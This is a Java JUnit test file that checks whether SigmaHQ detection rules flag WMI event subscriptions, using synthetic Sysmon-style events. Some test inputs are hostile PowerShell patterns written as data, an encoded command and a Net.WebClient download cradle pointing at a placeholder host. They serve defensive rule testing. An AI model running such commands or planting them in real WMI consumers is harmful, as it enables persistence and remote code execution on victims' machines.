package dev.ring3.search.sigma;

import static org.junit.jupiter.api.Assertions.assertEquals;

import dev.ring3.collector.event.Event;
import dev.ring3.collector.normalize.Normalizer;
import dev.ring3.collector.source.HostRecord;
import dev.ring3.collector.source.Origin;
import dev.ring3.search.query.match.MatcherSet;
import dev.ring3.search.sigma.rule.SigmaDocument;
import dev.ring3.search.sigma.taxonomy.Compiled;
import dev.ring3.search.sigma.taxonomy.Placeholders;
import dev.ring3.search.sigma.taxonomy.RuleCompiler;
import dev.ring3.search.sigma.taxonomy.Taxonomy;
import dev.ring3.search.testing.SigmaHq;
import java.nio.charset.StandardCharsets;
import java.time.Clock;
import java.time.Instant;
import java.util.ArrayList;
import java.util.Base64;
import java.util.List;
import java.util.Map;
import java.util.TreeSet;
import org.junit.jupiter.api.BeforeEach;
import org.junit.jupiter.api.Test;

/**
 * SigmaHQ's rules for Sysmon's events 19 to 21, over subscriptions as Ring3 itself finds them: they
 * have Sysmon's names, but no number.
 */
class WmiRulesTest {
  private static final String ANY = "WMI Event Subscription";
  private static final String SCRIPT = "Suspicious Scripting in a WMI Consumer";
  private static final String ENCODED = "Suspicious Encoded Scripts in a WMI Consumer";

  private final List<String> titles = new ArrayList<>();
  private MatcherSet rules = new MatcherSet(List.of());

  @BeforeEach
  void rules() {
    RuleCompiler compiler = new RuleCompiler(Taxonomy.load(), Placeholders.none());
    List<Compiled.Mapped> mapped = new ArrayList<>();
    SigmaHq.files().stream()
        .flatMap(file -> file.documents().stream())
        .map(SigmaDocument.Rule.class::cast)
        .filter(rule -> "wmi_event".equals(rule.logSource().category()))
        .forEach(
            rule -> {
              titles.add(rule.about().title());
              mapped.add((Compiled.Mapped) compiler.compile(rule));
            });
    assertEquals(new TreeSet<>(List.of(ANY, ENCODED, SCRIPT)), new TreeSet<>(titles));
    rules = new MatcherSet(mapped.stream().map(Compiled.Mapped::query).toList());
  }

  private static Event found(String action, Map<String, String> values) {
    return new Normalizer(Clock.systemUTC())
        .normalize(new HostRecord(new Origin("windows.wmi", 1), Instant.EPOCH, action, values))
        .build();
  }

  private static Event consumer(String destination) {
    return found("wmi_consumer", Map.of("winlog.event_data.Destination", destination));
  }

  private List<String> hits(Event event) {
    List<String> hits = new ArrayList<>();
    rules.session().match(event, number -> hits.add(titles.get(number)));
    return hits.stream().sorted().toList();
  }

  @Test
  void eachPartOfASubscriptionIsOne() {
    assertEquals(List.of(ANY), hits(found("wmi_filter", Map.of("winlog.event_data.Name", "a"))));
    assertEquals(List.of(ANY), hits(consumer("C:\\Windows\\notepad.exe")));
    assertEquals(List.of(ANY), hits(found("wmi_binding", Map.of("winlog.event_data.Filter", "a"))));
    assertEquals(List.of(), hits(found("task_create", Map.of())));
  }

  @Test
  void whatAConsumerStartsIsLookedAt() {
    assertEquals(List.of(SCRIPT, ANY), hits(consumer("powershell -NoP -enc SQBFAFgA")));
    assertEquals(
        List.of(SCRIPT, ANY),
        hits(consumer("(New-Object Net.WebClient).DownloadString('http://a.example')")));
    assertEquals(List.of(ANY), hits(consumer("(New-Object Net.WebClient)")));
    for (String before : List.of("", "x", "xy")) {
      String hidden = before + "WriteProcessMemory and more";
      String encoded =
          Base64.getEncoder().encodeToString(hidden.getBytes(StandardCharsets.US_ASCII));
      assertEquals(List.of(ENCODED, ANY), hits(consumer("powershell " + encoded)));
    }
  }

  /** A query for events that ends with its process is no subscription, though Windows logs it. */
  @Test
  void aRecordWithANumberOfItsOwnIsNotTakenForOneOfSysmons() {
    Event query = found("wmi_filter", Map.of("event.code", "5860"));
    assertEquals(List.of(), hits(query));
    assertEquals(List.of(ANY), hits(found("wmi_filter", Map.of("event.code", "19"))));
  }
}
